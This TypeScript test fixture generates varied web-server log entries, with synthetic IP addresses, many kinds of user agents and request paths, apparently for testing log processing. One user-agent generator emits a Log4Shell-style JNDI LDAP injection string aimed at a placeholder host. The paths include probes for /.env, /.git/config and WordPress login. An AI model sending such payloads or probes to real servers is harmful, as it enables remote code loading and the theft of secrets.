import type { LogEntry } from '@app/contracts';

/** The longest user agent that is kept. */
const LONGEST = 1_024;
/** A prime number, so that numbers that follow each other are far apart. */
const STEP = 2_654_435_761;
const KHTML = 'AppleWebKit/537.36 (KHTML, like Gecko)';

const REPEATED = 'Android '.repeat(LONGEST / 8);
/** Characters that need two bytes. */
const IN_TWO_BYTES = Array.from({ length: LONGEST }, (_, place) =>
  String.fromCharCode(0x4e00 + ((place * 7_919) % 0x4000)),
).join('');

/** User agents of all kinds, each with a number that no other visit has. */
const AGENTS: readonly ((number: number) => string)[] = [
  (number) =>
    `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${KHTML} Chrome/131.0.${number}.0 Safari/537.36`,
  (number) =>
    `Mozilla/5.0 (Linux; Android 14; M-${number} Build/UP1A) ${KHTML} Chrome/131.0.0.0 Mobile Safari/537.36`,
  (number) => `Mozilla/5.0 (X11; Linux x86_64; rv:${number}) Gecko/20100101 Waterfox/${number}`,
  (number) => `SomeApp/${number} CFNetwork/1568.200.51 Darwin/24.1.0`,
  (number) =>
    `Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html) run ${number}`,
  (number) => `Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) ${number}`,
  (number) => `GPTBot/1.2 (number ${number})`,
  (number) => `${nameOf(number)}Bot/1.0 (+https://${nameOf(number)}.example.net/)`,
  (number) => `Mozilla/5.0 (compatible; ${nameOf(number)}/2.0)`,
  (number) => `\${jndi:ldap://${number}.example.com/a}`,
  (number) => `${number} ${REPEATED}`.slice(0, LONGEST),
  (number) => `${number} ${IN_TWO_BYTES}`.slice(0, LONGEST),
];

/** Returns a name of letters only, because a number belongs to no name. */
function nameOf(number: number): string {
  let name = '';
  for (let rest = number + 1; rest > 0; rest = Math.floor(rest / 20)) {
    name += ['ba', 'ce', 'di', 'fo', 'gu', 'ha', 'je', 'ki', 'lo', 'mu'][rest % 10] ?? '';
    if (rest % 20 > 9) name += 'n';
  }
  return `Z${name}`;
}

const PATHS = ['/', '/about', '/.env', '/.git/config', '/wp-login.php', '/phpinfo.php'];

/** Returns a visit with a user agent and an address that no visit with another number has. */
export function distinctVisit(number: number, time: number): LogEntry {
  const userAgent = AGENTS[number % AGENTS.length]?.(number) ?? '';
  const path = PATHS[number % PATHS.length] ?? '/';
  return {
    ...{ time, method: 'GET', host: 'example.com', path, statusCode: 404 },
    ...{ ip: addressOf(number), userAgent },
  };
}

function addressOf(number: number): string {
  const mixed = (number * STEP) % 2 ** 32;
  const bytes = [24, 16, 8, 0].map((bits) => Math.floor(mixed / 2 ** bits) % 256);
  if (number % 4 > 0) return bytes.join('.');
  return `2001:db8:${(mixed >>> 16).toString(16)}:${(mixed & 0xffff).toString(16)}::1`;
}
